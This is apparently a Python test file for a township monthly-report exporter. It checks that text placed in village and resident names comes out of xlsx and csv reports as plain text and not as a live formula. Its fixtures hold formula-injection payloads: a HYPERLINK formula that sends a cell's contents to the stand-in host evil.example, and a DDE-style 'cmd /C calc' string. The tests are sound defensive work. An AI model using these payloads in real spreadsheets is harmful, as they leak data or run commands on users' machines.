"""Text a worker typed (or a forged bundle carried) never runs as a formula in a report file."""

from __future__ import annotations

import csv

from sqlalchemy import text

from storage.reports.cell_safety import FORMULA_START
from storage.reports.files import save_report
from storage.reports.monthly import monthly_report
from tests.report_helpers import TODAY, V1, build_township

VILLAGE = '=HYPERLINK("http://evil.example/?"&B5,"点此查看")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
OTHERS = ["+86 139", "-2+3", "\tTAB"]


def _hostile_township(path):
    db, ids = build_township(path)
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE village SET name = :n WHERE id = :v"), {"n": VILLAGE, "v": V1})
        conn.execute(text("UPDATE resident SET name = :n WHERE name = '周九'"), {"n": NAME})
        conn.execute(text("UPDATE resident SET name = :n WHERE name = '吴十'"), {"n": OTHERS[0]})
    return db


def _unwrap(field: str) -> str:
    if field.startswith('="') and field.endswith('"'):
        return field[2:-1].replace('""', '"')
    return field


def test_xlsx_holds_the_text_and_no_formula(tmp_path):
    from openpyxl import load_workbook

    db = _hostile_township(tmp_path / "t.db")
    path = tmp_path / "r.xlsx"
    save_report(db, monthly_report(db, 2026, 9, today=TODAY), path)
    wb = load_workbook(path)
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.add(cell.value)
    assert VILLAGE in values and NAME in values and OTHERS[0] in values


def test_csv_cells_show_the_text_and_start_no_formula(tmp_path):
    db = _hostile_township(tmp_path / "t.db")
    written = save_report(db, monthly_report(db, 2026, 9, today=TODAY), tmp_path / "r.csv")
    seen = set()
    for path in written:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for field in row:
                    if field.startswith(FORMULA_START):
                        # the one formula allowed: ="text", which yields the text and runs nothing
                        assert field.startswith('="') and field.endswith('"'), (path.name, field)
                        inner = field[2:-1]
                        assert '"' not in inner.replace('""', ""), (path.name, field)
                    seen.add(_unwrap(field))
    assert VILLAGE in seen and NAME in seen and OTHERS[0] in seen
